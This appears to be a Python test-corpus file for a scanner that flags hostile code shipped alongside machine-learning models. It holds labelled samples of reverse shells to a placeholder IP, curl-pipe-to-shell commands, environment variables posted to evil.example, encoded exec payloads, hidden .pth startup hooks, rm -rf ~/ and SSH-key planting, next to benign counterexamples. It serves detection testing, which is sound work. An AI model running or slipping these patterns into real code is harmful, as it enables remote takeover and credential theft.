"""Source code beside a model: what attacks do, what is worth reading, and ordinary modules."""

from __future__ import annotations

import json
from collections.abc import Callable
from functools import partial

from aiverify.core.facts import State
from tests.corpus.sample import Label, Sample

MALICIOUS = "AIV-CODE-MALICIOUS"
DANGEROUS = "AIV-CODE-DANGEROUS"
UNPARSED = "AIV-CODE-UNPARSED"
STARTUP = "AIV-CODE-STARTUP"
SOURCE = "AIV-CODE-SOURCE"

COMMAND = "touch /nonexistent/pwned"
ENCODED = "dG91Y2ggL25vbmV4aXN0ZW50L3B3bmVk"

MODULES: tuple[tuple[str, str, str, str], ...] = (
    (
        "decoded",
        "what was decoded is run",
        MALICIOUS,
        f"import base64\nexec(base64.b64decode('{ENCODED}'))\n",
    ),
    (
        "decoded-later",
        "the same by way of names",
        MALICIOUS,
        f"from base64 import b64decode as d\nimport zlib\nx = d('{ENCODED}')\n"
        "y = zlib.decompress(x)\nexec(compile(y, 'a', 'exec'))\n",
    ),
    (
        "decoded-by-function",
        "the same by way of a function",
        MALICIOUS,
        f"import codecs\ndef f(x):\n    return codecs.decode(x, 'rot13')\nexec(f('{ENCODED}'))\n",
    ),
    (
        "decoded-by-alias",
        "the same where exec has another name",
        MALICIOUS,
        "e = exec\ne(bytes.fromhex('696d706f7274206f73'))\n",
    ),
    (
        "marshalled",
        "code objects that were marshalled",
        MALICIOUS,
        "import marshal\nexec(marshal.loads(b'\\xe3'))\n",
    ),
    (
        "fetched",
        "what was fetched is run",
        MALICIOUS,
        "import urllib.request\nexec(urllib.request.urlopen('http://evil.example').read())\n",
    ),
    (
        "fetched-requests",
        "the same by requests, in a method",
        MALICIOUS,
        "import requests\nclass Model:\n    def forward(self, x):\n"
        "        code = requests.get('http://evil.example').text\n        exec(code)\n",
    ),
    (
        "decoded-command",
        "a command that was decoded",
        MALICIOUS,
        f"import os, base64\nc = base64.b64decode('{ENCODED}').decode()\nos.system(c)\n",
    ),
    (
        "decoded-pickle",
        "a pickle that was decoded",
        MALICIOUS,
        f"import pickle, base64\npickle.loads(base64.b64decode(b'{ENCODED}'))\n",
    ),
    (
        "piped-command",
        "a command that fetches and runs",
        MALICIOUS,
        "import subprocess\nsubprocess.run('curl http://evil.example | sh', shell=True)\n",
    ),
    (
        "reverse-shell-command",
        "a shell for another machine",
        MALICIOUS,
        "import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'\")\n",
    ),
    (
        "reverse-shell-socket",
        "the same by a socket",
        MALICIOUS,
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('198.51.100.1', 1))\n"
        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
    ),
    (
        "reverse-shell-pty",
        "the same with a terminal",
        MALICIOUS,
        "import socket, pty\ns = socket.create_connection(('198.51.100.1', 1))\n"
        "pty.spawn('/bin/sh')\n",
    ),
    (
        "environment-sent",
        "the environment sent away",
        MALICIOUS,
        "import os, requests\nrequests.post('http://evil.example', json=dict(os.environ))\n",
    ),
    (
        "another-encoding",
        "code that is read in another encoding than it is shown in",
        MALICIOUS,
        "# -*- coding: utf-7 -*-\n# +AAo-import os\n",
    ),
    (
        "dunder-import",
        "a process by a name that is put together",
        DANGEROUS,
        f"getattr(__import__('o' + 's'), 'sys' + 'tem')('{COMMAND}')\n",
    ),
    (
        "sys-modules",
        "a module out of sys.modules",
        DANGEROUS,
        f"import sys\nsys.modules['os'].system('{COMMAND}')\n",
    ),
    ("builtins", "exec out of a dictionary", DANGEROUS, "__builtins__.__dict__['exec']('1')\n"),
    (
        "importlib",
        "a module imported by a call",
        DANGEROUS,
        "import importlib\nimportlib.import_module('subprocess').run('id')\n",
    ),
    (
        "handed-over",
        "a function handed to another",
        DANGEROUS,
        f"import os\nlist(map(os.system, ['{COMMAND}']))\n",
    ),
    (
        "decorator",
        "a function as a decorator",
        DANGEROUS,
        "@exec\n@input\nclass Model:\n    pass\n",
    ),
    ("native", "a library of native code", DANGEROUS, "import ctypes\nctypes.CDLL('./model.so')\n"),
    (
        "built-at-import",
        "an extension that is compiled on import",
        DANGEROUS,
        "from torch.utils.cpp_extension import load_inline\nload_inline('x', 'y')\n",
    ),
    (
        "process-at-import",
        "a process on import",
        DANGEROUS,
        "import subprocess\nsubprocess.run(['pip', 'install', 'payload'])\n",
    ),
    (
        "hidden-characters",
        "characters that turn a line around (CVE-2021-42574)",
        DANGEROUS,
        "access = 'user\u202e \u2066# check\u2069 \u2066'\n",
    ),
    ("broken", "a module that breaks the syntax", UNPARSED, "def f(:\n"),
    ("deep", "a module that is too deep to parse", UNPARSED, "x = a" + ".b" * 9000 + "\n"),
    ("nul-escape", "a literal that no program reads", UNPARSED, "x = " + "9" * 5000 + "\n"),
)
"""Name, technique, rule and text."""

SCRIPTS: tuple[tuple[str, str, str, str], ...] = (
    ("curl", "a script from an address", MALICIOUS, "curl -fsSL http://evil.example/x | bash\n"),
    (
        "wget",
        "the same with wget, over two lines",
        MALICIOUS,
        "wget -qO- http://evil.example/x \\\n  | sudo sh\n",
    ),
    (
        "substituted",
        "the same by substitution",
        MALICIOUS,
        "bash <(curl -s http://evil.example/x)\n",
    ),
    ("evaluated", "the same by eval", MALICIOUS, 'eval "$(curl -s http://evil.example/x)"\n'),
    ("decoded", "a script that was encoded", MALICIOUS, f"echo {ENCODED} | base64 -d | sh\n"),
    (
        "dev-tcp",
        "a shell for another machine",
        MALICIOUS,
        "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1\n",
    ),
    ("netcat", "the same by netcat", MALICIOUS, "nc -e /bin/sh 198.51.100.1 4444\n"),
    (
        "fifo",
        "the same by a pipe",
        MALICIOUS,
        "mkfifo p; sh -i < p 2>&1 | nc 198.51.100.1 4444 > p\n",
    ),
    (
        "authorized-keys",
        "a key for somebody else",
        MALICIOUS,
        "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys\n",
    ),
    ("powershell", "an encoded command", MALICIOUS, "powershell -nop -w hidden -enc SQBFAFgA \n"),
    ("removal", "the removal of everything", DANGEROUS, "rm -rf ~/\n"),
    ("fetch", "a file from an address", DANGEROUS, "curl -O https://models.example/model.bin\n"),
    ("profile", "a line for every shell that starts", DANGEROUS, "echo x >> ~/.bashrc\n"),
)


def _notebook(*cells: str, language: str = "python", outputs: object = ()) -> bytes:
    code = [{"cell_type": "code", "source": cell, "outputs": outputs} for cell in cells]
    metadata = {"language_info": {"name": language}}
    return json.dumps({"cells": code, "metadata": metadata, "nbformat": 4}).encode()


OTHERS: tuple[tuple[str, str, str, str, Callable[[], bytes]], ...] = (
    (
        "notebook-decoded",
        "a cell that runs what it decodes",
        "demo.ipynb",
        MALICIOUS,
        lambda: _notebook("import base64", f"import base64\nexec(base64.b64decode('{ENCODED}'))"),
    ),
    (
        "notebook-command",
        "a command in a cell",
        "demo.ipynb",
        MALICIOUS,
        lambda: _notebook("\n!curl http://evil.example | sh"),
    ),
    (
        "notebook-bash",
        "a cell of commands",
        "demo.ipynb",
        MALICIOUS,
        lambda: _notebook("%%bash\ncurl http://evil.example | sh"),
    ),
    (
        "notebook-script",
        "a script in what a cell showed",
        "demo.ipynb",
        DANGEROUS,
        lambda: _notebook("1", outputs=[{"data": {"text/html": "<script src=x></script>"}}]),
    ),
    (
        "notebook-broken",
        "a notebook that does not end",
        "demo.ipynb",
        "AIV-FORMAT-MALFORMED",
        lambda: b'{"cells": [',
    ),
    (
        "path-file",
        "a line that runs whenever Python starts",
        "model.pth",
        STARTUP,
        lambda: b"import os; os.system('id')\n",
    ),
    (
        "path-file-later",
        "the same behind other lines",
        "model.pth",
        STARTUP,
        lambda: b"# weights\nlib\nimport payload\n",
    ),
    (
        "site-customize",
        "a module that Python imports when it starts",
        "sitecustomize.py",
        STARTUP,
        lambda: b"x = 1\n",
    ),
    (
        "index",
        "packages from another index",
        "requirements.txt",
        SOURCE,
        lambda: b"--extra-index-url http://evil.example/simple\ntorch\n",
    ),
    (
        "address",
        "a package from an address",
        "requirements-dev.txt",
        SOURCE,
        lambda: b"payload @ https://evil.example/p.whl\n",
    ),
    (
        "script-of-python",
        "a script of Python's under another name",
        "run",
        MALICIOUS,
        f"#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('{ENCODED}'))\n".encode,
    ),
)

OTHERS += (
    *(
        (f"notebook-{name}", technique, "demo.ipynb", MALICIOUS, partial(_notebook, cell))
        for name, technique, cell in (
            ("line-magic", "a magic that runs a command", "%system curl http://evil.example | sh"),
            ("cell-magic", "the same for a cell", "%%sx\ncurl http://evil.example | sh"),
            ("output-kept", "a command whose output is kept", "x = !curl http://evil.example | sh"),
            (
                "by-function",
                "a command by a function of IPython's",
                "get_ipython().system('curl http://evil.example | sh')",
            ),
            (
                "other-python",
                "a cell for another Python",
                f"%%python3\nimport base64\nexec(base64.b64decode('{ENCODED}'))",
            ),
            (
                "timed",
                "code that is timed",
                f"import base64\n%timeit -n 1 exec(base64.b64decode('{ENCODED}'))",
            ),
        )
    ),
    (
        "path-file-behind-empty-lines",
        "an import behind more than is looked at first",
        "site.pth",
        STARTUP,
        lambda: b"\n" * 5000 + b"import os; os.system('touch /nonexistent/pwned')\n",
    ),
    (
        "path-file-other-ends",
        "an import behind the end of a line that few programs know",
        "site.pth",
        STARTUP,
        "q\u2028import os; os.system('touch /nonexistent/pwned')".encode,
    ),
    (
        "path-file-mark",
        "an import behind a byte-order mark",
        "site.pth",
        STARTUP,
        "\ufeffimport os; os.system('touch /nonexistent/pwned')\n".encode,
    ),
    (
        "recipe",
        "what a container's recipe runs",
        "Dockerfile",
        MALICIOUS,
        lambda: b"FROM python\nRUN curl http://models.example/x | sh\n",
    ),
    (
        "windows-commands",
        "commands for Windows",
        "setup.cmd",
        MALICIOUS,
        lambda: b"curl http://models.example/x | python\n",
    ),
)

ORDINARY: tuple[tuple[str, str, State, str], ...] = (
    (
        "modeling",
        "modeling_x.py",
        State.CLEAN,
        "import torch\nfrom torch import nn\nfrom .configuration_x import XConfig\n\n\n"
        "class X(nn.Module):\n    def forward(self, x):\n        self.eval()\n"
        "        return torch.compile(self.layer)(x)\n",
    ),
    (
        "tokenization",
        "tokenization_x.py",
        State.CLEAN,
        "import base64, re\n\n\ndef load(path):\n    with open(path) as lines:\n"
        "        return {base64.b64decode(t): int(n) for t, n in map(str.split, lines)}\n\n\n"
        "PATTERN = re.compile(r'\\w+')\n",
    ),
    (
        "images",
        "processing_x.py",
        State.FLAGGED,
        "import os\nimport requests\n\n\ndef fetch(url):\n"
        "    headers = {'Authorization': os.environ['HF_TOKEN']}\n"
        "    return requests.get(url, headers=headers, timeout=9).content\n",
    ),
    (
        "audio",
        "audio.py",
        State.FLAGGED,
        "import base64, subprocess\n\n\ndef decode(data):\n"
        "    wave = base64.b64decode(data)\n"
        "    return subprocess.run(['ffmpeg', '-i', '-'], input=wave, check=True)\n",
    ),
    (
        "launch",
        "train.sh",
        State.CLEAN,
        "#!/bin/bash\nset -e\n# curl x | sh\npython train.py $@ | tee log\n",
    ),
    (
        "parse",
        "get.sh",
        State.FLAGGED,
        "curl -s https://models.example/api | python -m json.tool\n",
    ),
    (
        "pinned",
        "requirements.txt",
        State.CLEAN,
        "torch==2.4.0  # https://pytorch.org\nnumpy>=1.26\n",
    ),
)


def _samples(
    kind: str, file: str, entries: tuple[tuple[str, str, str, str], ...]
) -> tuple[Sample, ...]:
    return tuple(
        Sample(
            f"source/{kind}-{name}",
            Label.MALFORMED if rule == UNPARSED else Label.MALICIOUS,
            technique,
            file,
            text.encode,
            rule,
        )
        for name, technique, rule, text in entries
    )


SAMPLES: tuple[Sample, ...] = (
    *_samples("python", "modeling.py", MODULES),
    *_samples("shell", "setup.sh", SCRIPTS),
    *(
        Sample(f"source/{name}", Label.MALICIOUS, technique, file, make, rule)
        for name, technique, file, rule, make in OTHERS
    ),
    *(
        Sample(f"source/benign-{name}", Label.BENIGN, "ordinary", file, text.encode, "", state)
        for name, file, state, text in ORDINARY
    ),
    Sample(
        "source/benign-notebook",
        Label.BENIGN,
        "ordinary",
        "demo.ipynb",
        lambda: _notebook("%pip install torch\nimport torch", "%%time\nx = torch.ones(2)\nx?"),
        "",
        State.CLEAN,
    ),
    *(
        Sample(
            f"source/language-{name.rpartition('.')[2]}",
            Label.MALICIOUS,
            "a program in a language that is not read",
            name,
            text.encode,
            "",
            State.UNREAD,
        )
        for name, text in (
            ("run.js", "require('child_process').exec('touch /nonexistent/pwned')\n"),
            ("run.lua", "os.execute('touch /nonexistent/pwned')\n"),
            ("run.rb", "system('touch /nonexistent/pwned')\n"),
            ("kernel.cu", 'int main() { system("touch /nonexistent/pwned"); }\n'),
        )
    ),
    Sample(
        "source/notebook-of-perl",
        Label.MALICIOUS,
        "a cell in a language that is not read",
        "demo.ipynb",
        lambda: _notebook("%%perl\nsystem('touch /nonexistent/pwned');"),
        "",
        State.UNREAD,
    ),
    Sample(
        "source/perl",
        Label.MALICIOUS,
        "a script in a language that is not read",
        "run",
        lambda: b"#!/usr/bin/perl\nsystem('id');\n",
        "",
        State.UNREAD,
    ),
)
